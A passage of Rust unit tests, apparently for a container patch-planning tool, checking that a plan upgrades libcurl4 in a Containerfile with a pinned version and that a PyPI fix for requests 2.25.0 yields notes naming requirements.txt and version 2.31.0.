    let plan = build_plan(&PlanRequest::new(cve(), vec![app], TagScheme::BumpPatch)).unwrap();
    let p = find(&plan, "r.local/app:1");
    assert_eq!(p.upgrade.as_ref().unwrap().packages, ["libcurl4"]);
    let text = p.patched_containerfile.as_deref().unwrap();
    assert!(text.contains("curl=7.88.1-10+deb12u10 libcurl4"), "{text}");
    assert!(
        text.contains("apt-get install --only-upgrade -y libcurl4"),
        "{text}"
    );
}

#[test]
fn language_fixes_name_the_manifest_and_the_version() {
    let mut app = with_cf(
        img("r.local/app:1", None, "team"),
        "Containerfile",
        "FROM python:3.12-slim\nCOPY requirements.txt .\nRUN pip install -r requirements.txt\n",
    );
    app.language_fixes
        .push(patchline_lineage::plan::LanguageFix {
            ecosystem: patchline_model::Ecosystem::Pypi,
            name: "requests".into(),
            installed: "2.25.0".into(),
            fixed: Some("2.31.0".into()),
            path: Some(
                "usr/local/lib/python3.12/site-packages/requests-2.25.0.dist-info/METADATA".into(),
            ),
        });
    let plan = build_plan(&PlanRequest::new(cve(), vec![app], TagScheme::BumpPatch)).unwrap();
    let p = find(&plan, "r.local/app:1");
    assert!(p.root_of_fix);
    assert!(p.upgrade.is_none());
    assert!(
        p.notes.iter().any(|n| n.contains("PyPI requests 2.25.0")
            && n.contains("to 2.31.0 or later")
            && n.contains("requirements.txt")),
        "{:?}",
        p.notes
    );
    let md = render_markdown(&plan);
    assert!(md.contains("update requests in its manifests"), "{md}");
}
